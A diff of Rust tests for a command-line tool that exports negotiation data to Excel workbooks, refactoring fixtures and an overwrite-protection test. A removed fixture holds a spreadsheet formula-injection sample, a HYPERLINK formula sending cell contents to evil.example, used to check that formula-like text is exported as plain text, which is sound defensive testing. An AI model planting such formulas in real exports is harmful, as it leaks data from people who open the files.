@@ -7,30 +7,8 @@ use std::path::Path;
 
 use calamine::{Data, Reader, Xlsx, open_workbook};
 
-use crate::{bare, run};
-
-/// Columns whose every cell must be a number (or empty, for unknown).
-const NUMBERS: [&str; 10] = [
-    "score",
-    "agree",
-    "overlap",
-    "disagree",
-    "clash",
-    "unknown",
-    "score_before",
-    "score_after",
-    "gain",
-    "cost",
-];
-/// Columns whose every cell must be a boolean.
-const FLAGS: [&str; 6] = [
-    "red_line",
-    "carried",
-    "on_conditions",
-    "withdrawn",
-    "changed",
-    "deal_zone_known",
-];
+use crate::csv::{FLAGS, NUMBERS};
+use crate::{bare, formula_talks, run};
 
 const TALKS: [&str; 2] = ["--talks", "euro-security-2022"];
 
@@ -127,19 +105,7 @@ fn every_workbook_reads_back_typed_with_the_csv_headers() {
 
 #[test]
 fn text_that_looks_like_a_formula_is_written_as_text() {
-    let tmp = tempfile::tempdir().unwrap();
-    let talks = tmp.path().join("evil");
-    std::fs::create_dir_all(talks.join("rounds")).unwrap();
-    std::fs::write(
-        talks.join("talks.toml"),
-        "title = \"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")\"\n[[parties]]\nid = \"a\"\nname = \"+A\"\n[[parties]]\nid = \"b\"\nname = \"B\"\n[[issues]]\nid = \"i\"\ntitle = \"@I\"\nscale = [{ id = \"x\", label = \"X\" }, { id = \"y\", label = \"Y\" }]\n",
-    )
-    .unwrap();
-    std::fs::write(
-        talks.join("rounds/2024-01-01-r.toml"),
-        "date = 2024-01-01\ntitle = \"R\"\nparticipants = [\"a\"]\n[positions.a.i]\nstance = \"x\"\nsummary = \"=1+1\"\nnote = \"none\"\n",
-    )
-    .unwrap();
+    let tmp = formula_talks();
     for (k, args) in [
         &["show", "a", "i"][..],
         &["list", "talks"],
@@ -192,39 +158,29 @@ fn a_workbook_is_never_written_over_a_file_without_force() {
     let tmp = tempfile::tempdir().unwrap();
     let file = tmp.path().join("m.xlsx");
     std::fs::write(&file, "keep me").unwrap();
-    let out = file.to_str().unwrap();
-    let args = [
-        "--talks",
-        "euro-security-2022",
-        "matrix",
-        "--format",
-        "xlsx",
-        "--out",
-        out,
-    ];
-    let (_, stderr, code) = run(bare(), &args);
-    assert_eq!(code, 2);
-    assert!(stderr.contains("already exists; pass --force"), "{stderr}");
-    assert_eq!(std::fs::read_to_string(&file).unwrap(), "keep me");
-    let mut forced = args.to_vec();
-    forced.push("--force");
-    let (_, stderr, code) = run(bare(), &forced);
-    assert_eq!(code, 0, "{stderr}");
-    assert!(std::fs::read(&file).unwrap().starts_with(b"PK"));
-    // A folder is not replaced, even with --force.
-    let (_, stderr, code) = run(
-        bare(),
-        &[
+    let write = |out: &Path, force: bool| {
+        let mut args = vec![
             "--talks",
             "euro-security-2022",
             "matrix",
             "--format",
             "xlsx",
-            "--out",
-            tmp.path().to_str().unwrap(),
-            "--force",
-        ],
-    );
+        ];
+        args.extend(["--out", out.to_str().unwrap()]);
+        if force {
+            args.push("--force");
+        }
+        run(bare(), &args)
+    };
+    let (_, stderr, code) = write(&file, false);
+    assert_eq!(code, 2);
+    assert!(stderr.contains("already exists; pass --force"), "{stderr}");
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), "keep me");
+    let (_, stderr, code) = write(&file, true);
+    assert_eq!(code, 0, "{stderr}");
+    assert!(std::fs::read(&file).unwrap().starts_with(b"PK"));
+    // A folder is not replaced, even with --force.
+    let (_, stderr, code) = write(tmp.path(), true);
     assert_eq!(code, 2);
     assert!(stderr.contains("is not a regular file"), "{stderr}");
 }
